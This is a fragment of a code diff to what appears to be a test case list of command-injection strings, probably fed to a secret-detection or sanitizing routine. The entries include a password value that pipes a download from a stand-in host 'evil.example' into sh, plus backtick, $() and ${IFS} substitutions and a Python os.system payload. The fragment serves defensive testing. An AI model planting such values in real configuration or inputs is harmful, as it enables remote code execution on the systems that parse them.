@@ -241,7 +241,7 @@ KEY = "-----"
     [
         'DB_PASSWORD="x$(curl -s evil.example/x | sh)"',
         "API_TOKEN=a1`touch /x`",
-        ': "Authorization: Digest "; touch /x',
+        ': "Authorization: Digest a="; touch /x',
         "DB_PASSWORD = f\"x{__import__('os').system('x')}\"",
         "curl -u x:$(touch${IFS}x)",
         "x=://x:$(touch${IFS}x)@h",
